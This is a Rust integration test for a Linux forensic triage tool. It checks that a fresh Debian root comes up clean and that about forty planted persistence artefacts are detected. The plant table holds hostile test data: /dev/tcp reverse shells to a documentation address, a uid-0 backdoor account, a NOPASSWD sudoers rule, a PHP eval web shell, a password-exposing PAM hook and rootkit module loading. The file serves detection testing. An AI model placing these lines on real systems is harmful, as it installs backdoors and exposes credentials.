//! A real Debian root: nothing above "info" on it as installed, and what is planted on it is found.
//!
//! Vouched for by an independent path: mmdebstrap and dpkg made the root, mke2fs the file system; the plants are the
//! default paths of public persistence collections with inert text and documentation addresses.
//! Needs root (for owners and modes), mmdebstrap, mke2fs and a Debian mirror; says "skipped" without them.

use evidence::{FileSource, Source, ext::Ext};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use triage::{Options, Report, Severity};

/// The unpacked root, made once and kept below the target directory.
fn root() -> Option<PathBuf> {
    let kept = Path::new(env!("CARGO_TARGET_TMPDIR")).join("debian-root");
    if kept.join("etc/debian_version").exists() {
        return Some(kept);
    }
    let is_root = Command::new("id").arg("-u").output().is_ok_and(|out| out.stdout == b"0\n");
    if !is_root {
        eprintln!("skipped: not root");
        return None;
    }
    let making = kept.with_extension("making");
    let _ = std::fs::remove_dir_all(&making);
    let made = Command::new("mmdebstrap")
        .args([
            "--quiet",
            "--variant=minbase",
            "--include=openssh-server,cron,sudo,udev,systemd-sysv,e2fsprogs",
        ])
        .args(["bookworm", making.to_str()?])
        .output();
    match made {
        Ok(out) if out.status.success() => {
            std::fs::rename(&making, &kept).expect("renaming the finished root");
            Some(kept)
        }
        _ => {
            eprintln!("skipped: no mmdebstrap or no mirror");
            None
        }
    }
}

/// Triage of an ext4 image of `tree`.
fn examine(tree: &Path, directory: &Path) -> Option<Report> {
    let image = directory.join("image");
    std::fs::File::create(&image).and_then(|file| file.set_len(2 << 30)).unwrap();
    let made = Command::new("/usr/sbin/mke2fs")
        .args(["-q", "-F", "-t", "ext4", "-d"])
        .arg(tree)
        .arg(&image)
        .status();
    if !made.is_ok_and(|status| status.success()) {
        eprintln!("skipped: no mke2fs");
        return None;
    }
    let source: Arc<dyn Source> =
        Arc::new(FileSource::new(std::fs::File::open(&image).unwrap(), 512).unwrap());
    let fs = Ext::open(source).unwrap();
    let begin = std::time::Instant::now();
    let report = triage::run(&fs, &Options::default());
    eprintln!(
        "{} entries, {} digests in {:?}",
        report.coverage.entries,
        report.coverage.digests_compared,
        begin.elapsed()
    );
    Some(report)
}

/// Rule, path, mode (0 = keep and append), content.
const PLANTS: &[(&str, &str, u32, &str)] = &[
    ("GBX-0101", "/etc/passwd", 0, "backdoor:x:0:0::/root:/bin/bash\n"),
    ("GBX-0104", "/etc/shadow", 0, "games:$6$aaaaaaaa$bbbbbbbbbbbbbbbb:19000:0:99999:7:::\n"),
    ("GBX-0106", "/etc/passwd", 0, "news2:x:999:9::/var/spool/news:/usr/sbin/nologin \n"),
    ("GBX-0121", "/etc/sudoers.d/backdoor", 0o440, "www-data ALL=(ALL) NOPASSWD: ALL\n"),
    ("GBX-0201", "/root/.ssh/authorized_keys", 0o600, "ssh-ed25519 AAAAC3Nza eve@192.0.2.10\n"),
    ("GBX-0202", "/var/spool/news/.ssh/authorized_keys", 0o600, "ssh-ed25519 AAAAC3Nza x\n"),
    ("GBX-0211", "/etc/ssh/sshd_config", 0, "PermitRootLogin yes\n"),
    (
        "GBX-0301",
        "/var/spool/cron/crontabs/root",
        0o600,
        "* * * * * /bin/bash -c 'sh -i >& /dev/tcp/192.0.2.10/1 0>&1'\n",
    ),
    ("GBX-0302", "/etc/cron.d/freedesktop_timesync1", 0o644, "* * * * * root /opt/x\n"),
    ("GBX-0302", "/etc/cron.daily/anacron", 0o755, "#!/bin/sh\n/opt/x\n"),
    ("GBX-0302", "/etc/crontab", 0, "* * * * * root /tmp/.x/run\n"),
    (
        "GBX-0303",
        "/var/spool/cron/atjobs/a0000101b2c3d4",
        0o700,
        "#!/bin/sh\n# atrun uid=0 gid=0\n/opt/x\n",
    ),
    (
        "GBX-0401",
        "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service",
        0o644,
        "[Service]\nExecStart=/opt/x\n",
    ),
    (
        "GBX-0401",
        "/etc/systemd/system/ssh.service.d/10-x.conf",
        0o644,
        "[Service]\nExecStartPost=/opt/x\n",
    ),
    ("GBX-0404", "/usr/lib/systemd/system-generators/makecon", 0o755, "#!/bin/sh\n/opt/x\n"),
    ("GBX-0501", "/etc/ld.so.preload", 0o644, "/lib/x86_64-linux-gnu/libx.so.1\n"),
    ("GBX-0705", "/usr/lib/x86_64-linux-gnu/libx.so.1", 0o644, "\x7fELF\0"),
    ("GBX-0601", "/var/tmp/.suid", 0o4755, "\x7fELF x"),
    ("GBX-0602", "/usr/bin/find", 0o4755, ""),
    ("GBX-0604", "/tmp/bd64", 0o755, "\x7fELF x"),
    ("GBX-0701", "/usr/sbin/sshd", 0, "x"),
    ("GBX-0701", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so", 0, "x"),
    ("GBX-0704", "/usr/bin/cat.original", 0o755, "\x7fELF cat"),
    ("GBX-0706", "/usr/lib/modules/6.1.0/kernel/rk.ko", 0o644, "\x7fELF"),
    ("GBX-0801", "/root/.bashrc", 0, "nohup bash -i > /dev/tcp/192.0.2.10/9001 0<&1 2>&1 &\n"),
    ("GBX-0802", "/etc/profile.d/x.sh", 0o644, "/opt/x &\n"),
    ("GBX-0803", "/etc/rc.local", 0o755, "#!/bin/sh\n/opt/x\nexit 0\n"),
    (
        "GBX-0901",
        "/etc/pam.d/common-auth",
        0,
        "auth optional pam_exec.so quiet expose_authtok /var/log/spy.sh\n",
    ),
    ("GBX-0903", "/etc/modprobe.d/x.conf", 0o644, "install dccp /opt/x\n"),
    ("GBX-0904", "/etc/modules-load.d/diamorphine.conf", 0o644, "diamorphine\n"),
    (
        "GBX-0905",
        "/etc/udev/rules.d/10-atest.rules",
        0o644,
        "SUBSYSTEM==\"net\", KERNEL!=\"lo\", RUN+=\"/usr/bin/at -M -f /opt/x now\"\n",
    ),
    (
        "GBX-0906",
        "/etc/apt/apt.conf.d/01python-upgrades",
        0o644,
        "APT::Update::Pre-Invoke {\"/opt/x\"};\n",
    ),
    ("GBX-0908", "/etc/hosts", 0, "192.0.2.10 security.debian.org\n"),
    ("GBX-1001", "/var/www/html/x.php", 0o644, "<?php eval(base64_decode($_POST['x'])); ?>\n"),
    ("GBX-1002", "/usr/share/... ", 0o644, "x"),
    ("GBX-1004", "/usr/lib/python3/dist-packages/x.pth", 0o644, "import os\n"),
    ("GBX-1106", "/etc/update-motd.d/137-python-upgrades", 0o755, "#!/bin/sh\n/opt/x\n"),
    ("GBX-1105", "/etc/network/if-up.d/x", 0o755, "#!/bin/sh\n/opt/x\n"),
    ("GBX-1102", "/etc/init.d/x", 0o755, "#!/bin/sh\n/opt/x\n"),
    ("GBX-1107", "/etc/xdg/autostart/x.desktop", 0o644, "[Desktop Entry]\nExec=/opt/x\n"),
];

#[test]
fn clean_debian_is_clean_and_planted_debian_is_not() {
    let Some(root) = root() else { return };
    let directory = tempfile::tempdir().unwrap();
    let Some(report) = examine(&root, directory.path()) else { return };
    let above: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.severity != Severity::Info)
        .map(|f| (&f.rule, f.path.to_string(), &f.excerpt, &f.detail))
        .collect();
    assert!(above.is_empty(), "{above:#?}");
    assert!(report.problems.is_empty(), "{:?}", report.problems);
    assert!(
        report.coverage.packages > 100 && report.coverage.digests_compared > 5000,
        "{:?}",
        report.coverage
    );

    let tree = directory.path().join("tree");
    assert!(Command::new("cp").arg("-a").arg(&root).arg(&tree).status().unwrap().success());
    for (_, path, mode, content) in PLANTS {
        use std::io::Write;
        use std::os::unix::fs::PermissionsExt;
        let path = tree.join(&path[1..]);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(&path)
            .unwrap()
            .write_all(content.as_bytes())
            .unwrap();
        if *mode != 0 {
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(*mode)).unwrap();
        }
    }
    let report = examine(&tree, directory.path()).unwrap();
    let missed: Vec<_> = PLANTS
        .iter()
        .filter(|(rule, path, ..)| {
            !report.findings.iter().any(|f| f.rule == *rule && f.path.0 == path.as_bytes())
        })
        .map(|(rule, path, ..)| (rule, path))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
    let planted: Vec<&str> = PLANTS.iter().map(|(_, path, ..)| *path).collect();
    let false_alarms: Vec<_> = report
        .findings
        .iter()
        .filter(|f| {
            f.severity != Severity::Info && !planted.iter().any(|path| path.as_bytes() == f.path.0)
        })
        .map(|f| (&f.rule, f.path.to_string()))
        .collect();
    assert!(false_alarms.is_empty(), "{false_alarms:#?}");
    eprintln!("{} plants, {} findings, none elsewhere", PLANTS.len(), report.findings.len());
}
